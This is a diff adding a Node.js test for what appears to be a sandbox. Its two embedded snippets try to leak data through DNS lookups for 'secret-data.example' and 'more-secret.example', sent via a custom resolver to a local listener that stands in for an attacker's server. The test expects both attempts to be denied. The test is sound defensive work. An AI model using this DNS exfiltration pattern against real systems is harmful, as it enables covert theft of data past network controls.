@@ -6,6 +6,7 @@ import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 import type { Running } from '../runtime/helpers.ts';
 import { attack, enforce, learnWorkspace, type Workspace } from './helpers.ts';
+import { watchUdp } from './observers.ts';
 
 const js = JSON.stringify;
 let space: Workspace;
@@ -81,4 +82,26 @@ test('an argument that answers one word to the check and another to the spawn ru
      return 'ran';`,
   );
   assert.equal(existsSync(file), false, `the marker process ran: ${JSON.stringify(answer)}`);
+});
+
+test('dns.Resolver and dns.resolve* are checked: a query to a server of the attacker never leaves', async () => {
+  const watch = await watchUdp();
+  try {
+    const answers = [];
+    for (const code of [
+      `const { Resolver } = require('node:dns').promises;
+       const resolver = new Resolver({ timeout: 200, tries: 1 });
+       resolver.setServers(['127.0.0.1:${watch.port}']);
+       return resolver.resolve4('secret-data.example').then(() => 'resolved', (e) => e.code);`,
+      `const { Resolver } = require('node:dns');
+       const resolver = new Resolver({ timeout: 200, tries: 1 });
+       resolver.setServers(['127.0.0.1:${watch.port}']);
+       return new Promise((resolve) => resolver.resolveTxt('more-secret.example', (e) => resolve(e ? e.code : 'resolved')));`,
+    ])
+      answers.push(await attack(service.base, code));
+    assert.deepEqual(await watch.received(), [], JSON.stringify(answers));
+    for (const answer of answers) assert.equal(answer.value, 'ERR_LEASH_DENIED');
+  } finally {
+    watch.close();
+  }
 });
